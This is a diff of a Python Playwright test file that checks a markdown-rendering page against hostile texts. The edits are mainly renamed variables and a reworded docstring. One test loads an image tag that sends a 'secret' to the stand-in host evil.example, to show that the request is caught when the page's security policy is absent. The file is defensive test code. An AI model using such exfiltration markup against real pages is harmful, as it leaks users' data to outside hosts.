@@ -1,7 +1,7 @@
-"""Texts that try to run, to fetch and to lead away do nothing in the real page.
+"""Hostile texts cannot run scripts, fetch URLs or navigate in the real page.
 
-A part of them; `python -m tests.soak hostile` shows them all. At every split point of a stream:
-`web/src/markdown/tests/hostile.test.tsx`.
+These tests show some of the texts; `python -m tests.soak hostile` shows them all.
+`web/src/markdown/tests/hostile.test.tsx` tests them at every split point of a stream.
 """
 
 from collections.abc import Iterator
@@ -27,14 +27,14 @@ DEEDS = {
 
 @pytest.fixture(scope="module")
 def pages(playwright: Playwright) -> Iterator[Pages]:
-    with hostile_pages(playwright) as opened:
-        yield opened
+    with hostile_pages(playwright) as pages:
+        yield pages
 
 
 def test_hostile_texts_run_fetch_and_lead_nowhere(pages: Pages) -> None:
     assert len(TEXTS) >= 300
-    for some in in_conversations(TEXTS[::15]):
-        assert pages.harm_of(some) == []
+    for texts in in_conversations(TEXTS[::15]):
+        assert pages.harm_of(texts) == []
 
 
 def test_as_a_name_of_anything_they_do_no_more(playwright: Playwright) -> None:
@@ -56,7 +56,7 @@ def test_in_what_is_exported_they_do_no_more(playwright: Playwright) -> None:
 def test_harm_would_be_seen(pages: Pages, deed: str) -> None:
     watched = pages.open()
     watched.page.evaluate(f"() => {{ {DEEDS[deed]} }}")
-    assert watched.look() != []
+    assert watched.collect_harm() != []
     watched.close()
 
 
@@ -65,7 +65,7 @@ def test_without_the_pages_policy_the_trap_would_hear_of_it(playwright: Playwrig
         page = browser.new_page()
         page.set_content("<img src='http://evil.example/p.png?secret'>")
         page.wait_for_load_state("networkidle")
-        assert any("GET /p.png?secret" in caught for caught in trap.caught)
+        assert any("GET /p.png?secret" in request for request in trap.requests)
 
 
 def test_the_page_forbids_to_look_up_the_hosts_of_its_links(pages: Pages) -> None:
